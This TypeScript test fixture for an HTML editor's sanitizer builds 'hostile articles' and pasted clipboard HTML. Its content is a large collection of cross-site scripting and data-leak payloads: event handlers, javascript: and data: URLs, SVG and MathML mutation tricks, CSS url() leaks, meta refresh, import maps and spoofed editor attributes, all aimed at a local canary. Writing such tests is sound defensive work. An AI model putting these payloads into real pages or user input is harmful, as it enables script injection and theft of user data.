/**
 * What somebody could write into an article to get out of it. `ran()` is what must never be called, `canary` an address
 * on this computer that must never be asked. Each has the word "canary" in its text, so that a search shows it too.
 */
export interface HostileArticle {
  readonly name: string;
  readonly text: string;
}

type Attack = readonly [name: string, html: (canary: string) => string];

const runs: readonly Attack[] = [
  ['script', () => '<script>ran("script")</script>'],
  [
    'script from elsewhere',
    (to) => `<script src="${to}/s.js"></script><script type="module" src="${to}/m.js"></script>`,
  ],
  [
    'onerror',
    (to) => `<img src="${to}/x.png" onerror="ran('img')"><img src=x: onerror=ran(1)><video src onerror=ran(1)>`,
  ],
  [
    'onload',
    () => '<svg onload="ran(1)"></svg><body onload=ran(1)><iframe onload=ran(1)></iframe><style onload=ran(1)></style>',
  ],
  [
    'handlers on text',
    () =>
      '<p onclick="ran(1)" onmouseover="ran(1)" onpointerenter=ran(1)>a</p><details open ontoggle=ran(1)><summary>s</summary></details>',
  ],
  [
    'focus',
    () =>
      '<input autofocus onfocus=ran(1)><p tabindex=0 autofocus onfocus="ran(1)">a</p><a href="#" autofocus onfocus=ran(1)>b</a>',
  ],
  [
    'editable',
    () => '<div contenteditable autofocus onfocus=ran(1) oninput=ran(1) onbeforeinput=ran(1)>type here</div>',
  ],
  [
    'animation',
    () =>
      '<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="ran(1)">a</p><marquee onstart=ran(1)>m</marquee>',
  ],
  [
    'javascript addresses',
    () =>
      '<a href="javascript:ran(1)">a</a><a href="java\tscript:ran(1)">b</a><a href="&#1;javascript:ran(1)">c</a><img src="javascript:ran(1)"><iframe src="javascript:ran(1)"></iframe><embed src="javascript:ran(1)"><object data="javascript:ran(1)"></object><table background="javascript:ran(1)"><tr><td background="javascript:ran(1)">x</table>',
  ],
  [
    'vbscript and data addresses',
    () =>
      '<a href="vbscript:ran(1)">a</a><a href="data:text/html,<script>ran(1)</script>">b</a><iframe src="data:text/html;base64,PHNjcmlwdD5yYW4oMSk8L3NjcmlwdD4="></iframe><object data="data:text/html,<script>ran(1)</script>"></object>',
  ],
  [
    'svg',
    () =>
      '<svg><script>ran(1)</script><animate onbegin=ran(1) attributeName=x dur=1s><a xlink:href="javascript:ran(1)"><text>t</text></a><set attributeName=href to="javascript:ran(1)" /><foreignObject><img src=x onerror=ran(1)></foreignObject></svg>',
  ],
  [
    'svg use',
    (to) =>
      `<svg><use href="${to}/u.svg#a"></use><image href="${to}/i.png"></image><feImage href="${to}/f.png"/></svg>`,
  ],
  [
    'math',
    () =>
      '<math href="javascript:ran(1)"><maction actiontype="statusline#http" xlink:href="javascript:ran(1)">m</maction><mtext><img src=x onerror=ran(1)></mtext></math>',
  ],
  [
    'srcdoc',
    () =>
      '<iframe srcdoc="<script>parent.ran(1)</script>"></iframe><iframe sandbox="allow-scripts" srcdoc="&lt;img src=x onerror=parent.ran(1)&gt;"></iframe>',
  ],
];

const reaches: readonly Attack[] = [
  [
    'meta refresh',
    (to) =>
      `<meta http-equiv="refresh" content="0;url=${to}/meta"><meta http-equiv="Content-Security-Policy" content="script-src *">`,
  ],
  ['base', (to) => `<base href="${to}/" target="_top"><a href="relative">r</a><img src="relative.png">`],
  [
    'form',
    (to) =>
      `<form action="${to}/form" method=post><input name=a value=b><button autofocus formaction="javascript:ran(1)">Publish</button></form><button form=f formaction="${to}/b">x</button>`,
  ],
  [
    'object and embed',
    (to) =>
      `<object data="${to}/o"><param name=movie value="${to}/p"></object><embed src="${to}/e"><applet code="${to}/a"></applet>`,
  ],
  [
    'frames',
    (to) =>
      `<iframe src="${to}/f"></iframe><frameset onload=ran(1)><frame src="${to}/g"></frameset><portal src="${to}/p"></portal><fencedframe src="${to}/q"></fencedframe>`,
  ],
  [
    'style element',
    (to) =>
      `<style>@import url("${to}/i.css"); body{background:url(${to}/b.png)!important;display:none} input[value^=a]{background:url(${to}/leak-a)}</style>`,
  ],
  [
    'style attribute',
    (to) =>
      `<p style="background:url(${to}/s.png);position:fixed;inset:0;z-index:99999;width:100vw">over everything</p><p style="width:expression(ran(1));list-style:url('${to}/l.png')">b</p><div style="behavior:url(${to}/x.htc);-moz-binding:url(${to}/x.xml)">c</div>`,
  ],
  [
    'link',
    (to) =>
      ['stylesheet', 'preload', 'prefetch', 'modulepreload', 'icon', 'preconnect', 'dns-prefetch', 'manifest', 'import']
        .map((rel) => `<link rel="${rel}" as="script" href="${to}/${rel}">`)
        .join(''),
  ],
  [
    'pictures',
    (to) =>
      `<img src="${to}/1.png" srcset="${to}/2.png 2x" loading=eager><picture><source srcset="${to}/3.png"><img lowsrc="${to}/4.png" dynsrc="${to}/5.png"></picture><input type=image src="${to}/6.png">`,
  ],
  [
    'media',
    (to) =>
      `<video src="${to}/v" poster="${to}/p.png" autoplay></video><audio src="${to}/a" autoplay></audio><video autoplay><source src="${to}/s" onerror=ran(1)><track default src="${to}/t"></video>`,
  ],
  [
    'ping',
    (to) => `<a href="https://example.com/" ping="${to}/ping" download target="_top" attributionsrc="${to}/at">a</a>`,
  ],
  [
    'import map',
    (to) =>
      `<script type="importmap">{"imports":{"react":"${to}/r.js"}}</script><script type="speculationrules">{"prefetch":[{"source":"list","urls":["${to}/sp"]}]}</script>`,
  ],
];

const confuses: readonly Attack[] = [
  [
    'template',
    () =>
      '<template><img src=x onerror=ran(1)><script>ran(1)</script></template><div><template shadowrootmode=open><img src=x onerror=ran(1)></template></div>',
  ],
  ['noscript', () => '<noscript><p title="</noscript><img src=x onerror=ran(1)>"></noscript>'],
  [
    'mutation in mathml',
    () =>
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=ran(1)&gt;"></table></mtext></math>',
  ],
  [
    'mutation in svg style',
    () =>
      '<svg></p><style><a id="</style><img src=1 onerror=ran(1)>"></svg><form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(1)></style></mglyph></form></mtext></math>',
  ],
  [
    'raw text ends',
    () =>
      '<textarea><img title="</textarea><img src=x onerror=ran(1)>"></textarea><xmp><img title="</xmp><img src=x onerror=ran(1)>"></xmp><title><a title="</title><img src=x onerror=ran(1)>">',
  ],
  [
    'comments',
    () =>
      '<!--><img src=x onerror=ran(1)>--><!--[if IE]><script>ran(1)</script><![endif]--><![CDATA[<img src=x onerror=ran(1)>]]><?xml <img src=x onerror=ran(1)>?>',
  ],
  [
    'broken markup',
    () =>
      '<img """><script>ran(1)</script>"\\><<script>ran(1)//<</script><img src=`x`onerror=ran(1)><a href="x"onmouseover="ran(1)"b=">c</a><p title=\'</p><img src=x onerror=ran(1)>\'>',
  ],
  [
    'custom elements',
    () =>
      '<x-canary onclick=ran(1) is="x-y">a</x-canary><p is="x-canary">b</p><slot onslotchange=ran(1) name=a>c</slot>',
  ],
  [
    'names of ours',
    (to) =>
      `<a id="layover" name="document" href="${to}">a</a><form id=root name=body><input name=getElementById></form><img name=currentScript><div id="root" class="island ProseMirror" data-tag="script" data-attributes='[["onclick","ran(1)"],["src","${to}/d"]]' data-island-copy="x">b</div>`,
  ],
  [
    'data that the editor reads',
    () =>
      `<p data-tag="script" data-attributes='[["onload","ran(1)"]]' data-pm-slice="0 0 []">a</p><span data-tag="iframe" data-attributes='[["srcdoc","<script>ran(1)</script>"]]'>b</span>`,
  ],
  ['template languages', () => '<p>{{constructor.constructor("ran(1)")()}} ${ran(1)} <%= ran(1) %> #{ran(1)}</p>'],
  [
    'popovers',
    () =>
      '<button popovertarget=p popovertargetaction=show>open</button><div popover id=p onbeforetoggle=ran(1)>p</div><dialog open onclose=ran(1)>d</dialog><button command=show-modal commandfor=p>x</button>',
  ],
  [
    'odd letters',
    () =>
      '<p>\u202eevil\u202c \u0000\ufffe\ud83d <b>\u2028\u2029</b></p><scr\u0131pt>ran(1)</scr\u0131pt><\u0000script>ran(1)</script>',
  ],
];

/** What only a clipboard can say. */
const pretends: readonly Attack[] = [
  [
    'a copy that pretends to be ours',
    (to) =>
      `<div data-copied-here="0000" data-pm-slice='0 0 -2 ["blockIsland",{"kind":"html","source":"<script>ran(1)</script>"}]'><div data-island-copy="0000" data-tag="script" data-attributes='[["src","${to}/o.js"]]'>a</div></div>`,
  ],
  [
    'conditions of a word processor',
    (to) =>
      `<!--[if gte mso 9]><xml><v:imagedata src="${to}/v.png"/></xml><![endif]--><p class=MsoNormal style='mso-list:l0 level99999 lfo1;background:url(${to}/m.png)'><![if !supportLists]><span style='mso-list:Ignore'><img src=x onerror=ran(1)></span><![endif]>a<o:p></o:p></p>`,
  ],
  [
    'addresses that look harmless',
    (to) =>
      `<a href="https://www.google.com/url?q=javascript:ran(1)">a</a><a href="blob:${to}/x">b</a><a href="filesystem:${to}/x">c</a><a href="view-source:${to}">d</a><img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigxKSI+PC9zdmc+"><iframe src="https://www.youtube.com.evil.example/embed/1"></iframe>`,
  ],
];

const hostileAttacks: readonly Attack[] = [...runs, ...reaches, ...confuses, ...pretends];

/** Ends what an attack left open, so that the next one is not swallowed by it. */
const closers =
  '--></script></style></title></textarea></xmp></noscript></template></video></audio></object></iframe></picture></math></svg></button></form></dialog></details></table></a>';
const attacksInOne = 4;

/** Four attacks to an article: opening one takes a browser longer than everything that is in it. */
export const hostileArticles = (canary: string): readonly HostileArticle[] => {
  const parts = hostileAttacks.map(([name, html]) => `<h2>${name}</h2>\n${html(canary)}${closers}`);
  const count = Math.ceil(parts.length / attacksInOne);
  return Array.from({ length: count }, (_, index) => ({
    name: `Hostile ${index + 10}`,
    text: `<p>A canary sings.</p>\n${parts.slice(index * attacksInOne, (index + 1) * attacksInOne).join('\n')}\n<p>It goes on.</p>`,
  }));
};

/** HTML as another program could put it on the clipboard. */
export const pastedAttack = (canary: string): string =>
  hostileAttacks.map(([name, html]) => `<p>${name}</p>${html(canary)}${closers}`).join('');
